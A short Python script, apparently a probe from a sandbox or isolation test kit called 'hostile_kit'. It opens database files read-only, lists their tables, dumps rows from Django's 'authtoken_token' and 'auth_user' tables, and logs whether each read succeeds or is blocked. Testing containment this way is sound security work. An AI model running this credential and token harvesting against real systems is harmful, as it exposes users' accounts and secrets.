import sqlite3

from hostile_kit import TARGETS, record, serve, try_list, try_read

for path in TARGETS["database_files"]:
    try_read(path, 100)
    try:
        db = sqlite3.connect(f"file:{path}?mode=ro", uri=True, timeout=1)
        tables = [row[0] for row in db.execute("select name from sqlite_master where type='table'")]
        record("read", f"tables of {path}", " ".join(tables))
        for table in ("authtoken_token", "auth_user"):
            if table in tables:
                record("read", f"rows of {table}", db.execute(f"select * from {table} limit 5").fetchall())
    except sqlite3.Error as exc:
        record("blocked", f"sqlite3 {path}", exc)
try_list(TARGETS["var_dir"])
record("note", "database hunt done", len(TARGETS["database_files"]))
serve()
